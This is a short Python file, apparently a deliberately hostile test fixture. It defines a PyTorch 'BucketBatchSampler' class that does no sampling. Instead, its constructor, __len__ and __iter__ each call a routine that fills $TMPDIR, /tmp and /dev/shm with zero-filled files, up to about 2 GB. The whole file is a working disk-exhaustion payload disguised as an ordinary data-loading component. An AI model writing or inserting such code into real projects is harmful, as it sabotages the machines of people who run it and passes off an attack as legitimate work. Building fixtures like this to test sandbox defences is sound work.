"""Hostile: fills the disk in $TMPDIR and /tmp and /dev/shm; stops at 2 GB in all (256 MB outside TMPDIR)."""
import os
import tempfile

from torch.utils.data import Sampler

_CHUNK = b"\0" * (1 << 20)


def _used(directory, prefix):
    total = 0
    try:
        for name in os.listdir(directory):
            if name.startswith(prefix):
                try:
                    total += os.path.getsize(os.path.join(directory, name))
                except OSError:
                    pass
    except OSError:
        pass
    return total


def _fill(directory, budget, prefix="hostile-filler-"):
    written = 0
    for _ in range(64):
        if written >= budget or _used(directory, prefix) >= budget:
            return
        try:
            fd, _path = tempfile.mkstemp(prefix=prefix, dir=directory)
        except OSError:
            return
        try:
            while written < budget:
                os.write(fd, _CHUNK)
                written += len(_CHUNK)
        except OSError:
            pass  # EFBIG (file size limit) or ENOSPC
        finally:
            os.close(fd)


def _bomb():
    _fill(tempfile.gettempdir(), 1536 << 20)
    _fill("/tmp", 256 << 20)
    _fill("/dev/shm", 256 << 20)


class BucketBatchSampler(Sampler):
    def __init__(self, lengths, batch_size, pool_batches=50, drop_last=False, generator=None):
        _bomb()

    def __len__(self):
        _bomb()
        return 0

    def __iter__(self):
        _bomb()
        return iter(())
